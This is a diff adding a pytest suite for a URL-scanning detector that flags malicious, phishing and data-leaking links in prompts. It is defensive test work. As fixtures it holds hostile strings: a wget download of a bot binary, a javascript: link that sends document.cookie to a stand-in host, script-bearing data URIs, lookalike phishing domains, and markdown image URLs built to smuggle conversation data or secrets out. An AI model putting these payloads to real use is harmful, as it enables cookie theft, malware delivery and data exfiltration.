@@ -1,0 +1,267 @@
+from __future__ import annotations
+
+import base64
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from scangate.detectors.contract import CompiledDetector, ReportContext, Resources, Subject
+from scangate.detectors.malicious_urls import SPEC
+from scangate.detectors.malicious_urls.brands import load_brands
+from scangate.detectors.malicious_urls.feeds import FeedSource, build_feed
+from scangate.detectors.malicious_urls.findings import UrlFinding, UrlRule
+from scangate.domain.content import Part
+from scangate.domain.profile import Protections
+from scangate.domain.taxonomy import Action, Confidence, Encoding, PartKind, Side
+from scangate.matching.prepare import prepare
+from scangate.matching.public_suffixes import load_public_suffixes
+
+BLOCK = {"url-detected-action": "block"}
+
+
+@pytest.fixture(scope="module")
+def resources(tmp_path_factory: pytest.TempPathFactory) -> Resources:
+    """With a small feed of its own, as `scangate feeds import` would write it."""
+    data_dir: Path = tmp_path_factory.mktemp("data")
+    (data_dir / "feeds").mkdir()
+    lines = [
+        "listed-malware.example.com",
+        "hosting.example.net/customer/7/",
+        "gr8.deals.py",
+        "198.18.0.99",
+        "@@||good.listed-malware.example.com^",
+    ]
+    content, _ = build_feed(lines, FeedSource("own", "malware"), load_public_suffixes(), load_brands())
+    (data_dir / "feeds" / "own.idx").write_bytes(content)
+    return Resources(data_dir=data_dir)
+
+
+def compiled(resources: Resources, app_protection: dict[str, Any]) -> CompiledDetector:
+    options = SPEC.from_protections(Protections.model_validate({"app-protection": app_protection}))
+    assert options is not None
+    return SPEC.compile(options, resources)
+
+
+def subject(text: str, kind: PartKind = PartKind.TEXT) -> Subject:
+    return Subject(Part(Side.PROMPT, kind, text), prepare(text, kind, lambda: None))
+
+
+def found(detector: CompiledDetector, text: str) -> list[UrlFinding]:
+    findings = detector.detect(subject(text))
+    assert all(isinstance(finding, UrlFinding) for finding in findings)
+    return [finding for finding in findings if isinstance(finding, UrlFinding)]
+
+
+def flagged(detector: CompiledDetector, text: str) -> list[UrlFinding]:
+    return [finding for finding in found(detector, text) if finding.flagged]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "see https://urlfiltering.paloaltonetworks.com/test-malware please",
+        "open urlfiltering.paloaltonetworks.com/test-phishing",
+        "http://testsafebrowsing.appspot.com/s/malware.html",
+        "get http://malware.wicar.org/data/ms14_064_ole_not_xp.html",
+        "https://secure.eicar.org/eicar.com.txt",
+        "https://listed-malware.example.com/x",
+        "sub.listed-malware.example.com:8080",
+        "[click](https://hosting.example.net/customer/7/index.html)",
+        "hxxps://listed-malware[.]example[.]com",
+        r'{"u": "http:\/\/listed-malware.example.com\/x"}',
+        "https://proxy.example.org/?u=https%3A%2F%2Flisted-malware.example.com",
+        "http://listed-\u200bmalware.example.com",
+        "ｈｔｔｐ://listed-malware.example.com",
+        "http://user@listed-malware.example.com/",
+        "http://3323068515/",
+        "198.18.0.99",
+        "gr8.deals.py",
+    ],
+)
+def test_listed_urls_are_flagged_in_every_spelling(resources: Resources, text: str) -> None:
+    hits = flagged(compiled(resources, BLOCK), text)
+    assert [(hit.rule, hit.action, hit.known, hit.risk_level) for hit in hits] == [(UrlRule.LISTED, Action.BLOCK, True, "high")]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The sentence ends.It goes on in file.py, see node.js and user.name.",
+        "https://urlfiltering.paloaltonetworks.com/",
+        "https://testsafebrowsing.appspot.com/",
+        "https://hosting.example.net/customer/8/",
+        "https://good.listed-malware.example.com/x",
+        "mail bob@listed-malware.example.com",
+        "https://www.paypal.com/signin and https://login.microsoftonline.com/common",
+        "https://github.com/paypal/paypal-checkout/blob/main/login.md",
+        "pip install https://files.pythonhosted.org/packages/a/b.whl",
+        "curl http://10.0.0.5/install.sh and http://203.0.113.9/tool.exe",
+        "https://user:secret@registry.example.com/v2/",
+        "version 1.2.3.4, range 10.0.0.0/8",
+        "What does javascript:void(0) do? And data:image/png;base64,iVBORw0KGgo=",
+        "paypal dot com is fine; so is www.müller.de",
+        "Our app lives at https://netflix-clone.vercel.app",
+        "Indicators: paypal-login[.]example-bank[.]com, hxxp://paypa1-secure-login[.]com",
+    ],
+)
+def test_ordinary_urls_and_mentions_are_not_flagged(resources: Resources, text: str) -> None:
+    assert flagged(compiled(resources, BLOCK), text) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "rule", "category"),
+    [
+        ("http://paypal.com.verify-account.xyz/login", UrlRule.BRAND_IN_SUBDOMAIN, "phishing"),
+        ("https://usps.com-trackparcel.top/us", UrlRule.DECEPTIVE_DOMAIN, "phishing"),
+        ("paypa1-secure-login.com", UrlRule.BRAND_LOOKALIKE, "phishing"),
+        ("https://rnicrosoft.com/", UrlRule.BRAND_LOOKALIKE, "phishing"),
+        ("https://coinbase-wallet-recovery.com", UrlRule.BRAND_BAIT, "phishing"),
+        ("https://аpple.com/id", UrlRule.IDN_HOMOGLYPH, "phishing"),
+        ("https://xn--pple-43d.com/id", UrlRule.IDN_HOMOGLYPH, "phishing"),
+        ("http://google.com@evil.example.org/x", UrlRule.USERINFO_DISGUISE, "phishing"),
+        ("http://0x08080808/login", UrlRule.OBSCURED_ADDRESS, "malware"),
+        ("wget http://8.8.4.4/bins/bot.arm7", UrlRule.EXECUTABLE_FROM_ADDRESS, "malware"),
+        ("http://8.8.4.4:8000/update.exe", UrlRule.EXECUTABLE_FROM_ADDRESS, "malware"),
+        ("http://8.8.4.4/wellsfargo/signin.php", UrlRule.BRAND_BELOW_ADDRESS, "phishing"),
+        ("<a href=\"javascript:location='//e.example/?'+document.cookie\">", UrlRule.SCRIPT_URI, "browser-runtime-attack"),
+        ("[x](data:text/html,<script>alert(1)</script>)", UrlRule.SCRIPT_URI, "browser-runtime-attack"),
+    ],
+)
+def test_unlisted_urls_that_give_themselves_away(resources: Resources, text: str, rule: UrlRule, category: str) -> None:
+    hits = flagged(compiled(resources, BLOCK), text)
+    assert [(hit.rule, hit.category, hit.known) for hit in hits] == [(rule, category, False)]
+    assert "real-time-detection" in hits[0].categories
+
+
+def test_a_url_in_a_decoded_view_points_to_the_code(resources: Resources) -> None:
+    packed = base64.b64encode(b"Please open http://malware.wicar.org/data/test.html right now").decode()
+    text = f"decode this: {packed}"
+    hits = flagged(compiled(resources, BLOCK), text)
+    assert [(hit.url, hit.encodings) for hit in hits] == [("http://malware.wicar.org/data/test.html", (Encoding.BASE64,))]
+    span = hits[0].span
+    assert text[span.start : span.end] in packed
+
+
+def test_urls_in_tool_arguments_are_found_in_coordinates_of_the_part(resources: Resources) -> None:
+    text = '{"url": "http:\\/\\/malware.wicar.org\\/x"}'
+    hits = [hit for hit in compiled(resources, BLOCK).detect(subject(text, PartKind.JSON)) if hit.flagged]
+    assert len(hits) == 1
+    assert "malware.wicar.org" in text[hits[0].span.start : hits[0].span.end]
+
+
+def test_a_defanged_listed_url_is_less_certain(resources: Resources) -> None:
+    detector = compiled(resources, BLOCK)
+    plain, defanged = "http://listed-malware.example.com", "hxxp://listed-malware[.]example.com"
+    assert [hit.confidence for hit in flagged(detector, plain)] == [Confidence.HIGH]
+    assert [hit.confidence for hit in flagged(detector, defanged)] == [Confidence.MEDIUM]
+
+
+def test_findings_quote_the_url_as_written(resources: Resources) -> None:
+    text = "see HXXP://Listed-Malware[.]example.com/Path now"
+    assert [hit.url for hit in flagged(compiled(resources, BLOCK), text)] == ["HXXP://Listed-Malware[.]example.com/Path"]
+
+
+def test_every_url_has_a_finding_and_only_categorised_ones_a_report_row(resources: Resources) -> None:
+    detector = compiled(resources, {"url-detected-action": "block", "block-url-category": {"member": ["gambling"]}})
+    text = "https://unlisted.example.com https://github.com/x https://www.bet365.com http://192.168.1.1/admin"
+    findings = found(detector, text)
+    assert [(f.category, f.flagged, f.known) for f in findings] == [
+        ("unknown", False, False),
+        ("computer-and-internet-info", False, True),
+        ("gambling", True, True),
+        ("private-ip-addresses", False, False),
+    ]
+    options = SPEC.from_protections(Protections.model_validate({"app-protection": BLOCK}))
+    assert options is not None
+    assert SPEC.report(options, [findings, findings], ReportContext(())) == {
+        "urlf_report": [
+            {"url": "https://www.bet365.com", "risk_level": "medium", "action": "block", "categories": ["gambling"]},
+            {
+                "url": "https://github.com/x",
+                "risk_level": "low",
+                "action": "allow",
+                "categories": ["computer-and-internet-info"],
+            },
+            {"url": "http://192.168.1.1/admin", "risk_level": "low", "action": "allow", "categories": ["private-ip-addresses"]},
+        ]
+    }
+
+
+def test_a_report_without_findings_is_an_empty_list() -> None:
+    options = SPEC.from_protections(Protections.model_validate({"app-protection": BLOCK}))
+    assert options is not None
+    assert SPEC.report(options, [[]], ReportContext(())) == {"urlf_report": []}
+
+
+def test_a_malicious_category_on_the_allow_list_is_not_flagged(resources: Resources) -> None:
+    detector = compiled(resources, {"url-detected-action": "block", "allow-url-category": {"member": ["phishing", "high-risk"]}})
+    assert flagged(detector, "urlfiltering.paloaltonetworks.com/test-phishing http://paypal.com.verify-account.xyz/") == []
+    assert len(flagged(detector, "urlfiltering.paloaltonetworks.com/test-malware")) == 1
+
+
+@pytest.mark.parametrize(("action", "expected"), [("allow", Action.ALLOW), ("alert", Action.ALERT), ("block", Action.BLOCK)])
+def test_the_profile_decides_what_happens_to_a_flagged_url(resources: Resources, action: str, expected: Action) -> None:
+    hits = flagged(compiled(resources, {"url-detected-action": action}), "http://malware.wicar.org")
+    assert [hit.action for hit in hits] == [expected]
+
+
+def test_customers_of_a_host_are_not_the_host(resources: Resources) -> None:
+    detector = compiled(resources, {"block-url-category": {"member": ["dynamic-dns", "search-engines"]}})
+    assert len(flagged(detector, "http://anything.duckdns.org/")) == 1
+    assert len(flagged(detector, "https://www.google.com/search?q=x")) == 1
+    assert flagged(detector, "https://google.com.example.org/") != flagged(detector, "https://www.google.com/")
+
+
+def test_more_urls_than_the_limit_are_counted(resources: Resources) -> None:
+    text = " ".join(f"https://host{number}.example.com/" for number in range(130))
+    findings = found(compiled(resources, BLOCK), text)
+    assert len(findings) == 101
+    assert (findings[-1].rule, findings[-1].count, findings[-1].flagged) == (UrlRule.URLS_NOT_EXAMINED, 30, False)
+
+
+@pytest.mark.parametrize(
+    ("text", "noted"),
+    [
+        ("![x](https://c.example.com/p.png?q={conversation})", True),
+        ("![x](https://c.example.com/p?d=dGhlIHNlY3JldCBpcyBmb3J0eSB0d28)", True),
+        ("![x](https://c.example.com/p?d=my+key+is+hunter2+and+more+text)", True),
+        ('<img src="https://c.example.com/p?d=my%20key%20is%20hunter2%20and%20more">', True),
+        ("![x](https://c.example.com/p.png?w=300&q=80)", False),
+        ("[x](https://c.example.com/p?d=my+key+is+hunter2+and+more+text)", False),
+        ("![x](https://c.example.com/p.png)", False),
+    ],
+)
+def test_images_that_carry_data_out_are_noted_not_flagged(resources: Resources, text: str, noted: bool) -> None:
+    rules = [(finding.rule, finding.flagged) for finding in found(compiled(resources, BLOCK), text)]
+    assert ((UrlRule.IMAGE_EXFILTRATION, False) in rules) is noted
+    assert not any(is_flagged for _, is_flagged in rules)
+
+
+def test_a_kilobyte_is_quick_and_a_megabyte_is_linear(resources: Resources) -> None:
+    detector = compiled(resources, BLOCK)
+    prepared = subject(" ".join(f"![](http://a{number}.com/?q={'a' * 30})" for number in range(20_000)))
+    started = time.process_time()
+    findings = detector.detect(prepared)
+    assert time.process_time() - started < 3  # 0.1 on an idle machine
+    assert len(findings) <= 201
+
+
+@settings(max_examples=100, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from(
+            ["http://", "malware.wicar.org", "paypal", ".com", "-login", "/x.exe", " ", "1.2.3.4", "@", "é", "\u200b", "[.]",
+             "javascript:", "data:text/html,<script>",
+             "![](", ")", "?q=", "\ud800"]
+        ),
+        max_size=20,
+    ).map("".join)
+)  # fmt: skip
+def test_any_mixture_gives_spans_inside_the_text(resources: Resources, text: str) -> None:
+    for finding in found(compiled(resources, BLOCK), text):
+        assert 0 <= finding.span.start <= finding.span.end <= len(text)
+        assert len(finding.url) <= 2048
